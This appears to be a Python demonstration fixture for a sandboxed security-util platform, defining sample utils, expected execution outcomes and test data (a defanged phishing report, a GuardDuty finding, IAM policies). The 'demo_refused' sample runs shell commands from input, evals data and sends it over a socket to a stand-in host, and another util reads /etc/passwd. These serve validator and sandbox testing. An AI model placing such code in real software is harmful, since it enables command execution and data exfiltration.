"""What the demonstration does with utils, and how each of it must end."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Final

#: A util that nobody should be allowed to store.
REFUSED: Final[Mapping[str, Any]] = {
    "name": "demo_refused",
    "description": "Sends what it is given to somebody else.",
    "kind": "transformer",
    "code": """\
import socket
import subprocess

PASSWORD = "hunter2-hunter2-hunter2"


def transform(data):
    subprocess.run(data["command"], shell=True)
    channel = socket.create_connection(("203.0.113.5", 443))
    channel.send(eval(data["expression"]))
    while True:
        pass
""",
}

_ANY_OBJECT: Final = {"type": "object"}
_ANYTHING: Final = {"type": ["object", "string", "number", "null"]}

#: Utils that pass the validator, and meet the limits of their jail.
NAUGHTY: Final[tuple[Mapping[str, Any], ...]] = (
    {
        "name": "demo_slow",
        "description": "Adds numbers, as many as it is told; it may take a second.",
        "kind": "transformer",
        "metadata": {"version": "1.0.0", "category": "demo", "tags": ["demo"]},
        "parameters": {"input_schema": _ANY_OBJECT, "output_schema": _ANYTHING},
        "execution_config": {"timeout_seconds": 1, "memory_limit_mb": 64, "cpu_limit": 1.0},
        "code": '''\
"""Add the numbers below a bound."""


def transform(data):
    """Return their sum."""
    return sum(range(data["numbers"]))
''',
    },
    {
        "name": "demo_curious",
        "description": "Reads the file that it is told to read.",
        "kind": "script",
        "metadata": {"version": "1.0.0", "category": "demo", "tags": ["demo"]},
        "parameters": {"input_schema": _ANY_OBJECT, "output_schema": _ANYTHING},
        "execution_config": {"timeout_seconds": 2, "memory_limit_mb": 64, "cpu_limit": 1.0},
        "code": '''\
"""Read a file."""


def main(params):
    """Return what the file says."""
    print("reading", params["path"])
    with open(params["path"], encoding="utf-8") as file:
        return file.read()
''',
    },
)


@dataclass(frozen=True, slots=True, kw_only=True)
class UtilEnding:
    """How an execution must end."""

    status: str = "SUCCESS"
    error_class: str | None = None
    #: What must stand in the value, at least.
    value: Mapping[str, Any] = field(default_factory=dict)

    def meets(self, execution: Mapping[str, Any]) -> bool:
        """Whether the execution, as the API shows it, has ended so."""
        error = execution["error"] or {}
        value = (execution["result"] or {}).get("value") or {}
        return (
            execution["status"] == self.status
            and error.get("class") == self.error_class
            and all(value.get(name) == wanted for name, wanted in self.value.items())
        )


@dataclass(frozen=True, slots=True, kw_only=True)
class UtilScene:
    """One execution."""

    title: str
    util: str
    input: Any
    ending: UtilEnding


def util_scenes() -> list[UtilScene]:
    """The demonstration of utils in its order."""
    return [
        UtilScene(
            title="find the indicators in a phishing report",
            util="ioc_extract",
            input={"text": REPORT},
            ending=UtilEnding(
                value={"counts": {"url": 1, "domain": 2, "email": 1, "cve": 1, "ipv4": 1}}
            ),
        ),
        UtilScene(
            title="bring a GuardDuty finding into one shape",
            util="guardduty_normalise",
            input={"source": "aws.guardduty", "detail": FINDING},
            ending=UtilEnding(value={"skipped": []}),
        ),
        UtilScene(
            title="what the change of a policy would give away",
            util="policy_diff",
            input={"before": POLICY, "after": WIDER},
            ending=UtilEnding(value={"wider": True}),
        ),
        UtilScene(
            title="a util that takes too long is killed",
            util="demo_slow",
            input={"numbers": 10**15},
            ending=UtilEnding(status="FAILED", error_class="UTIL_TIMEOUT"),
        ),
        UtilScene(
            title="a util that would read /etc/passwd finds no such file in its jail",
            util="demo_curious",
            input={"path": "/etc/passwd"},
            ending=UtilEnding(status="FAILED", error_class="UTIL_ERROR"),
        ),
    ]


REPORT: Final = (
    "Beacon to hxxps://login.evil[.]example/a?b=1 (185.220.101[.]4), sent by "
    "mallory@evil[.]example; CVE-2024-3400 was used."
)

FINDING: Final[Mapping[str, Any]] = {
    "id": "5ab3f2c1",
    "accountId": "111122223333",
    "region": "eu-central-1",
    "type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
    "severity": 8,
    "title": "Credentials of an instance were used from outside AWS.",
    "resource": {
        "resourceType": "AccessKey",
        "accessKeyDetails": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE", "userName": "WebRole"},
    },
    "service": {
        "count": 7,
        "eventFirstSeen": "2026-03-04T05:00:00Z",
        "eventLastSeen": "2026-03-04T06:00:00Z",
        "action": {
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": "ListBuckets",
                "remoteIpDetails": {"ipAddressV4": "198.51.100.9"},
            },
        },
    },
}

POLICY: Final[Mapping[str, Any]] = {
    "Version": "2012-10-17",
    "Statement": {
        "Effect": "Allow",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::reports/*",
        "Condition": {"Bool": {"aws:MultiFactorAuthPresent": "true"}},
    },
}

WIDER: Final[Mapping[str, Any]] = {
    "Version": "2012-10-17",
    "Statement": [
        {"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": "arn:aws:s3:::reports/*"},
        {"Effect": "Allow", "Action": "iam:PassRole", "Resource": "*"},
    ],
}
